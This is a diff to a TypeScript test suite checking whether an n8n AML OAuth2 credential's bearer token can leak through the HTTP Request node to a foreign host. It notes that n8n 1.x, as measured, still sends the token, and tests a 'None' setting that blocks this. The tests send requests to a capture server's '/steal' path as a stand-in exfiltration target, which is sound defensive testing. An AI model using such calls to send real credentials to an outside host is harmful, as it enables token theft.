@@ -54,22 +54,44 @@ async function httpRequestWith(cred: { id: string; name: string }, url: string) 
 	);
 }
 
+/** n8n 1.123.x checks Specific Domains for an OAuth2 credential in the HTTP Request node on redirects only (measured). */
+const domainsChecked = !/^1\./.test(process.env.AML_N8N_VERSION ?? '2.41.1');
+
 describe('AML credential: the token stays with the AML host', () => {
-	test("HTTP Request with the AML credential: refused for another host (no request, no token there); the AML host, the AML node and the credential test keep working", async () => {
+	test(`default (Specific Domains: the API Base URL host): ${domainsChecked ? 'another host refused, nothing sent' : 'n8n 1.x still sends the token to another host'}; the AML host, the AML node and the credential test keep working`, async () => {
 		const cred = await credential();
 		const before = capture.requests.length;
 		const elsewhere = await httpRequestWith(cred, `${capture.url}/steal`);
 		const own = await httpRequestWith(cred, `${context().sandbox.baseUrl}/api/v1/screening-list-groups`);
 		const node = await runAml({ resource: 'person', operation: 'get', personId: 'cust-1001' }, [{}], { credentials: { amlOAuth2Api: cred } }, { credentials: { amlOAuth2Api: cred } });
 		const tested = await n8n().testCredential(cred.id);
-		console.log('[security] http-request-exfiltration', JSON.stringify({ elsewhere: elsewhere.error?.message ?? elsewhere.status, captured: capture.requests.slice(before), own: own.error?.message ?? own.status, node: node.error?.message ?? node.status, tested }));
-		expect(capture.requests.slice(before)).toEqual([]);
-		expect(elsewhere.status).toBe('error');
-		expect(elsewhere.error?.message).toMatch(/Domain not allowed|restricted from accessing/);
+		const captured = capture.requests.slice(before);
+		console.log('[security] http-request-exfiltration', JSON.stringify({ version: process.env.AML_N8N_VERSION ?? 'default', mode: 'domains', elsewhere: elsewhere.error?.message ?? elsewhere.status, captured: captured.map((r) => ({ url: r.url, bearer: /^Bearer /.test(r.authorization ?? '') })), own: own.error?.message ?? own.status, node: node.error?.message ?? node.status, tested }));
+		if (domainsChecked) {
+			expect(captured).toEqual([]);
+			expect(elsewhere.status).toBe('error');
+			expect(elsewhere.error?.message).toMatch(/Domain not allowed|restricted from accessing/);
+		} else {
+			// What SECURITY.md tells 1.x operators: choose None there.
+			expect(captured.map((r) => /^Bearer /.test(r.authorization ?? ''))).toEqual([true]);
+		}
 		expect(own.status).toBe('success');
 		expect(own.outputs[0]?.length).toBeGreaterThan(0);
 		expect(node.status).toBe('success');
 		expect(node.outputs[0]?.[0]).toMatchObject({ id: 'cust-1001' });
+		expect(tested).toMatchObject({ status: 'OK' });
+	});
+
+	test('None: the HTTP Request node may not use the credential at all (nothing sent, on every n8n); the AML node and the credential test keep working', async () => {
+		const cred = await credential({ allowedHttpRequestDomains: 'none' });
+		const before = capture.requests.length;
+		const elsewhere = await httpRequestWith(cred, `${capture.url}/steal`);
+		const node = await runAml({ resource: 'person', operation: 'get', personId: 'cust-1001' }, [{}], { credentials: { amlOAuth2Api: cred } }, { credentials: { amlOAuth2Api: cred } });
+		const tested = await n8n().testCredential(cred.id);
+		console.log('[security] http-request-exfiltration', JSON.stringify({ version: process.env.AML_N8N_VERSION ?? 'default', mode: 'none', elsewhere: elsewhere.error?.message ?? elsewhere.status, captured: capture.requests.length - before, node: node.error?.message ?? node.status, tested }));
+		expect(capture.requests.slice(before)).toEqual([]);
+		expect(elsewhere.error?.message).toMatch(/prevent use within an HTTP Request/);
+		expect(node.status).toBe('success');
 		expect(tested).toMatchObject({ status: 'OK' });
 	});
 });
